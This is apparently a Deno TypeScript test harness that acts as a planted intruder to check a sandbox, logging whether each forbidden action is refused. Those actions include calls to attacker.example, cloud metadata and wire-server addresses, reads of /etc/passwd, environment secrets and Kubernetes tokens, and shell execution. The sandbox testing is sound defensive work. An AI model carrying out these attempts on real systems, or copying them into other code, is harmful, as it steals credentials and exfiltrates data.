/**
 * Code that somebody smuggled into the process, by a dependency for example: it tries to reach what
 * the executable has no use for, and prints a line of JSON for each attempt with what came of it.
 */
const SERVICE_ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount";

/** A specifier that no static analysis sees, since what it finds is part of the program. */
const unseen = (specifier: string): string => specifier;

const ATTEMPTS: Record<string, () => unknown> = {
  "connect by TCP": () => Deno.connect({ hostname: "192.0.2.1", port: 443 }),
  "connect by TLS": () => Deno.connectTls({ hostname: "attacker.example", port: 443 }),
  "connect to a Unix socket": () => Deno.connect({ transport: "unix", path: "/run/docker.sock" }),
  "connect by node:net": () => connectByNode(),
  "fetch from a stranger": () => fetch("https://attacker.example/"),
  "fetch from a domain that only ends like a registry's": () =>
    fetch("https://attackerazurecr.io/"),
  "fetch from a domain that only begins like the API server's": () =>
    fetch("https://kubernetes.default.svc.attacker.example/"),
  "fetch from a registry by plain HTTP": () => fetch("http://attacker.azurecr.io/"),
  "fetch from another port of IMDS's address": () => fetch("http://169.254.169.254:8080/"),
  "fetch from Azure's wire server": () => fetch("http://168.63.129.16/"),
  "fetch through a proxy of its own": () =>
    Deno.createHttpClient({ proxy: { url: "http://192.0.2.1:3128" } }),
  "open a WebSocket": () => openWebSocket("wss://attacker.example/"),
  "resolve a name by a chosen server": () =>
    Deno.resolveDns("data.attacker.example", "A", {
      nameServer: { ipAddr: "192.0.2.53", port: 53 },
    }),
  "resolve a name": () => Deno.resolveDns("data.attacker.example", "TXT"),
  "listen on another port": () => Deno.listen({ hostname: "0.0.0.0", port: 9999 }),
  "send a datagram": () => sendDatagram(),
  "import from Deno's usual hosts": () => import(unseen("https://esm.sh/attacker")),
  "import from JSR": () => import(unseen("jsr:@attacker/attack")),
  "import a file": () => import(unseen("file:///etc/passwd")),
  "read a file": () => Deno.readTextFile("/etc/passwd"),
  "read a file by node:fs": async () =>
    (await import("node:fs")).readFileSync("/etc/passwd", "utf8"),
  "read a file by fetch": () => fetch("file:///etc/passwd"),
  "read beside the ServiceAccount's files": () =>
    Deno.readTextFile(`${SERVICE_ACCOUNT}/../other/token`),
  "read the process's environment by /proc": () => Deno.readTextFile("/proc/self/environ"),
  "list a directory": () => Array.fromAsync(Deno.readDir("/")),
  "write a file": () => Deno.writeTextFile("/tmp/attack", ""),
  "write to the ServiceAccount's files": () => Deno.writeTextFile(`${SERVICE_ACCOUNT}/token`, ""),
  "make a temporary file": () => Deno.makeTempFile(),
  "run a command": () => new Deno.Command("id").output(),
  "run Deno itself": () => new Deno.Command(Deno.execPath(), { args: ["-A"] }).output(),
  "run a command by node:child_process": async () =>
    (await import("node:child_process")).execFileSync("/bin/sh", ["-c", "id"]),
  "load a library": () => Deno.dlopen("libc.so.6", {}),
  "read another variable": () => Deno.env.get("AZURE_CLIENT_SECRET"),
  "read every variable": () => Deno.env.toObject(),
  "learn the machine's addresses": () => Deno.networkInterfaces(),
  "learn the machine's users": () => Deno.uid(),
  "send a signal to another process": () => Deno.kill(Deno.ppid, "SIGCONT"),
  "ask for more rights": () => moreRights(),
};

async function connectByNode(): Promise<void> {
  const { connect } = await import("node:net");
  await new Promise((resolve, reject) => {
    connect(443, "192.0.2.1").on("connect", resolve).on("error", reject);
  });
}

function openWebSocket(url: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(url);
    socket.onopen = () => resolve();
    socket.onerror = (event) => reject((event as ErrorEvent).error);
  });
}

async function sendDatagram(): Promise<void> {
  const { createSocket } = await import("node:dgram");
  const socket = createSocket("udp4");
  await new Promise<void>((resolve, reject) => {
    // The socket binds itself on a later turn, where nothing catches what that throws.
    globalThis.addEventListener("error", (event) => {
      event.preventDefault();
      reject(event.error);
    }, { once: true });
    socket.send("data", 53, "192.0.2.53", (error) => error ? reject(error) : resolve());
  });
}

/** No error by itself: the answer says what was decided. */
async function moreRights(): Promise<void> {
  const granted = await Deno.permissions.request({ name: "net" });
  if (granted.state === "granted") return;
  throw new Deno.errors.NotCapable(`net is ${granted.state}`);
}

/** Says whether Deno refused, and in whose words. */
async function outcome(attempt: () => unknown): Promise<{ refused: boolean; how: string }> {
  try {
    await attempt();
    return { refused: false, how: "it was done" };
  } catch (error) {
    const { name, message, cause } = error as Error;
    const all = [`${name}: ${message}`, ...(cause instanceof Error ? [cause.message] : [])].join();
    return { refused: /NotCapable|Requires \w+ access/.test(all), how: all };
  }
}

async function intrude(): Promise<void> {
  for (const [attempt, make] of Object.entries(ATTEMPTS)) {
    const line = JSON.stringify({ attempt, ...await outcome(make) });
    Deno.stdout.writeSync(new TextEncoder().encode(`${line}\n`));
  }
}

// Without the sandbox these attempts would do harm.
if (Deno.permissions.querySync({ name: "run" }).state === "granted") {
  throw new Error("to be run with the executable's permissions only");
}
// deno-lint-ignore no-top-level-await -- the program is to start after the intruder
await intrude();
